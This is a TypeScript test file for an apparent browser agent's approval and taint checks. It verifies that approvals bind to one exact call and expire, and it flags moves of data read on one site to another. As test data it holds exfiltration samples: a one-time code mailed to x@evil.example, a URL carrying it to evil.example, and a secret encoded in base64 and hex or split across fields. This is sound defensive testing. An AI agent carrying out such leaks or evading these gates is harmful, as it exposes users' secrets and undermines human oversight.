import { type ApprovableCall, approvalHash, checkApproval, serverCallHash } from '@pagehand/contracts/approval';
import { assessStep, assessToolCall } from '@pagehand/contracts/assess-risk';
import { approvalNeed, rememberOptions } from '@pagehand/contracts/grants';
import { LIMITS } from '@pagehand/contracts/limits';
import { describe, expect, it } from 'vitest';
import { makePlan, makeRef, makeSnapshot } from '../contract/make-snapshot.ts';
import { accepted } from '../contract/refusals.ts';

const page = makeSnapshot([
  makeRef({
    ref: 'e1',
    role: 'textbox',
    name: 'Amount',
    submits: { action: 'https://shop.example/order', method: 'post' },
  }),
  makeRef({ ref: 'e2', name: 'Send', submits: { action: 'https://shop.example/order', method: 'post' } }),
  makeRef({
    ref: 'e3',
    role: 'searchbox',
    name: 'Search',
    submits: { action: 'https://shop.example/search', method: 'get' },
  }),
]);
function step(value: unknown, snapshot = page) {
  const [pinned] = accepted(makePlan([value]), snapshot).steps;
  if (!pinned) return expect.fail('no step');
  return pinned;
}
const call = (text: string): ApprovableCall & { kind: 'step' } => ({
  kind: 'step',
  planId: 'plan-1',
  tabId: 7,
  step: step({ kind: 'type', ref: 'e1', text, submit: true }),
});
const now = 1_800_000_000_000;
const yes = async (what: ApprovableCall) => ({ hash: await approvalHash(what), approved: true, decidedAt: now });

describe('P42, P43: an approval is for exactly one call, soon, once', () => {
  it('P42: the approved call runs, one changed character does not', async () => {
    const approval = await yes(call('100'));
    expect(await checkApproval(approval, call('100'), now + 1_000)).toEqual({ ok: true });
    for (const text of ['1000', '101', '100 ', '100\u200b', '1OO'])
      expect(await checkApproval(approval, call(text), now)).toMatchObject({ ok: false, code: 'approval-mismatch' });
  });
  it('P42: another target, kind, option, origin, document, plan, tab or step number is another call', async () => {
    const base = call('100');
    const approval = await yes(base);
    const others: ApprovableCall[] = [
      { ...base, planId: 'plan-2' },
      { ...base, tabId: 8 },
      { ...base, step: { ...base.step, origin: 'https://shop.example.evil.example' } },
      { ...base, step: { ...base.step, documentId: 'doc-1' } },
      { ...base, step: { ...base.step, stepId: 's2' } },
      { ...base, step: step({ kind: 'type', ref: 'e3', text: '100', submit: true }) },
      { ...base, step: step({ kind: 'type', ref: 'e1', text: '100' }) },
      { ...base, step: step({ kind: 'type', ref: 'e1', text: '100', submit: true, mode: 'append' }) },
      { ...base, step: step({ kind: 'fill', fields: [{ ref: 'e1', value: '100' }] }) },
      { kind: 'tool', origin: 'agent', documentId: 'doc-0', tool: 'type', args: { text: '100' } },
    ];
    for (const other of others)
      expect(await checkApproval(approval, other, now)).toMatchObject({ ok: false, code: 'approval-mismatch' });
  });
  it('P42: a tool call is bound to tool, arguments and declaration; the order of keys does not matter', async () => {
    const tool: ApprovableCall = {
      kind: 'tool',
      origin: '',
      documentId: '',
      tool: 'mail',
      args: { to: 'a', body: { x: 1, y: [1, 2] } },
      declaration: 'h1',
    };
    const approval = await yes(tool);
    expect(await checkApproval(approval, { ...tool, args: { body: { y: [1, 2], x: 1 }, to: 'a' } }, now)).toEqual({
      ok: true,
    });
    for (const other of [
      { args: { to: 'a', body: { x: 1, y: [2, 1] } } },
      { args: { to: 'a', cc: 'b', body: { x: 1, y: [1, 2] } } },
      { tool: 'mail2' },
      { declaration: 'h2' },
    ])
      expect(await checkApproval(approval, { ...tool, ...other }, now)).toMatchObject({ code: 'approval-mismatch' });
  });
  it('P43: older than two minutes, from the future, or of no time is stale', async () => {
    const approval = await yes(call('1'));
    expect(await checkApproval(approval, call('1'), now + LIMITS.approvalAgeMs)).toEqual({ ok: true });
    for (const at of [now + LIMITS.approvalAgeMs + 1, now - 60_000, Number.NaN])
      expect(await checkApproval(approval, call('1'), at)).toMatchObject({ code: 'approval-stale' });
    expect(await checkApproval({ ...approval, decidedAt: Number.NaN }, call('1'), now)).toMatchObject({
      code: 'approval-stale',
    });
  });
  it('P43: a no is never a yes', async () => {
    expect(await checkApproval({ ...(await yes(call('1'))), approved: false }, call('1'), now)).toMatchObject({
      ok: false,
    });
  });
  it('remembers high by choice and critical never', () => {
    const asked = {
      of: 'step',
      origin: 'https://shop.example',
      kind: 'click',
      turnId: 't1',
      risk: 'high',
      reasons: [],
    } as const;
    for (const of of ['step', 'page-tool'] as const) {
      expect(rememberOptions({ ...asked, of, risk: 'critical' })).toEqual(['once']);
      expect(rememberOptions({ ...asked, of, risk: 'low' })).toEqual([]);
    }
    expect(rememberOptions(asked)).toEqual(['once', 'run', 'site']);
    expect(rememberOptions({ ...asked, of: 'page-tool' })).toEqual(['once', 'run']);
    const site = { origin: 'https://shop.example', kind: 'click', at: 0 };
    const run = { origin: 'https://shop.example', turnId: 't1', at: 0 };
    expect(approvalNeed(asked, [site])).toBe('remembered-site');
    expect(approvalNeed({ ...asked, risk: 'critical' }, [site, run])).toBe('every-time');
    expect(approvalNeed({ ...asked, origin: 'https://shop.example.evil.example' }, [site, run])).toBe('yes');
    expect(approvalNeed({ ...asked, kind: 'type' }, [site])).toBe('yes');
    expect(approvalNeed({ ...asked, kind: 'type' }, [run])).toBe('remembered-run');
    expect(approvalNeed({ ...asked, turnId: 't2' }, [run])).toBe('yes');
    expect(approvalNeed({ ...asked, turnId: '' }, [{ ...run, turnId: '' }, site])).toBe('remembered-site');
  });
  it.each([
    ['no site', { origin: '' }, ['once']],
    ['an address of its own', { kind: 'navigate' }, ['once']],
    ['a new tab', { kind: 'open_tab' }, ['once']],
    ['a look-alike', { reasons: ['submits-form', 'lookalike-domain'] }, ['once']],
    ['invisible text', { reasons: ['invisible-text'] }, ['once']],
    ['what was read elsewhere', { reasons: ['writes-to-other-site'] }, ['once', 'run']],
  ] as const)('a yes is remembered no further than it reaches: %s', (_what, over, scopes) => {
    const asked = {
      of: 'step',
      origin: 'https://shop.example',
      kind: 'click',
      turnId: 't1',
      risk: 'high',
      reasons: [],
      ...over,
    } as const;
    expect(rememberOptions(asked)).toEqual(scopes);
    const { origin, kind } = asked;
    // Grants that are there, from an earlier version or for another reason, do not reach it either.
    expect(approvalNeed(asked, [{ origin, kind, at: 0 }])).toBe('yes');
    expect(approvalNeed(asked, [{ origin, turnId: 't1', at: 0 }])).toBe(scopes.length > 1 ? 'remembered-run' : 'yes');
  });
  it('a yes to steps of a run is none to a tool of the page, and one tool is not another', () => {
    const asked = {
      of: 'page-tool',
      origin: 'https://shop.example',
      kind: 'tool a',
      turnId: 't1',
      risk: 'high',
      reasons: [],
    } as const;
    const run = { origin: 'https://shop.example', turnId: 't1', at: 0 };
    expect(approvalNeed(asked, [run])).toBe('yes');
    expect(approvalNeed(asked, [{ ...run, kind: 'tool b' }])).toBe('yes');
    expect(approvalNeed(asked, [{ ...run, kind: 'tool a' }])).toBe('remembered-run');
  });
});

describe('P45: taint', () => {
  const tainted = { snapshot: page, taint: ['https://bank.example', 'https://shop.example'] };
  const clean = { snapshot: page, taint: ['https://shop.example'] };
  it('P45: filling and submitting on another site asks, naming both; a search in a clean run does not', () => {
    for (const value of [
      { kind: 'fill', fields: [{ ref: 'e1', value: 'x' }] },
      { kind: 'type', ref: 'e1', text: 'x' },
      { kind: 'type', ref: 'e3', text: 'x', submit: true },
    ]) {
      const { risk, reasons } = assessStep(step(value), tainted);
      expect(risk).toBe('high');
      const detail = reasons.find(({ code }) => code === 'writes-to-other-site')?.detail;
      expect(detail).toContain('https://bank.example');
    }
    expect(assessStep(step({ kind: 'click', ref: 'e2' }), tainted).risk).toBe('critical');
    expect(assessStep(step({ kind: 'type', ref: 'e3', text: 'shoes', submit: true }), clean).risk).toBe('low');
    expect(assessStep(step({ kind: 'type', ref: 'e1', text: 'shoes' }), clean).risk).toBe('low');
  });
  it('P45: reading and scrolling stay free in a tainted run', () => {
    for (const value of [{ kind: 'read' }, { kind: 'scroll', direction: 'down' }, { kind: 'find', text: 'x' }])
      expect(assessStep(step(value), tainted).risk).toBe('none');
  });
  it('P44, P45: typed text that carries what was read elsewhere is critical, also split over fields and encoded', () => {
    const form = makeSnapshot(['e1', 'e2', 'e3'].map((ref) => makeRef({ ref, role: 'textbox', name: `Field ${ref}` })));
    const secret = 'The vault code is 9917-42-XK and opens at noon on Friday';
    const context = {
      snapshot: form,
      taint: ['https://bank.example'],
      readTexts: [{ origin: 'https://bank.example', text: `Note: ${secret}. End.` }],
    };
    const cut = [secret.slice(0, 15), secret.slice(15, 30), secret.slice(30)];
    for (const value of [
      { kind: 'type', ref: 'e1', text: secret },
      { kind: 'type', ref: 'e1', text: Buffer.from(secret).toString('base64') },
      { kind: 'set_value', ref: 'e1', value: Buffer.from(secret).toString('hex') },
      { kind: 'fill', fields: cut.map((part, index) => ({ ref: `e${index + 1}`, value: part })) },
    ]) {
      const { risk, reasons } = assessStep(step(value, form), context);
      expect(risk).toBe('critical');
      expect(reasons[0]?.detail).toMatch(/from https:\/\/bank\.example to https:\/\/shop\.example/);
    }
    expect(assessStep(step({ kind: 'type', ref: 'e1', text: 'See you on Friday at noon' }, form), context).risk).toBe(
      'high',
    );
  });
  it('a tool call that sends what was read elsewhere is critical too', () => {
    const context = {
      taint: ['https://bank.example'],
      readTexts: [{ origin: 'https://bank.example', text: 'Your code is 482913, do not share it.' }],
    };
    const mail = {
      tool: 'gmail_send',
      risk: 'high',
      source: 'agent' as const,
      args: { to: 'x@evil.example', body: 'code 482913' },
      destination: 'https://mail.google.com',
    };
    expect(assessToolCall(mail, context).risk).toBe('critical');
    expect(assessToolCall({ ...mail, args: { to: 'x@evil.example', body: 'hello' } }, context).risk).toBe('high');
    const fetching = {
      tool: 'website',
      risk: 'none',
      source: 'agent' as const,
      args: { url: 'https://evil.example/?c=482913' },
      opensUrls: true,
    };
    expect(assessToolCall(fetching, context).risk).toBe('critical');
    expect(assessToolCall({ ...fetching, args: { url: 'http://192.168.1.1/' } }, context).risk).toBe('critical');
    expect(assessToolCall({ ...fetching, args: { url: 'https://news.example/' } }, context).risk).toBe('none');
  });
});

it('the approval of a server tool fits one call only: another id, tool or value gives another hash', async () => {
  const call = { toolCallId: 'c1', tool: 'send_mail', args: { to: 'ada@a.example' } };
  const hashes = await Promise.all(
    [
      call,
      { ...call, toolCallId: 'c2' },
      { ...call, tool: 'send_all' },
      { ...call, args: { to: 'bob@a.example' } },
    ].map(serverCallHash),
  );
  expect(new Set(hashes).size).toBe(4);
  expect(await serverCallHash({ ...call, args: { ...call.args } })).toBe(hashes[0]);
});
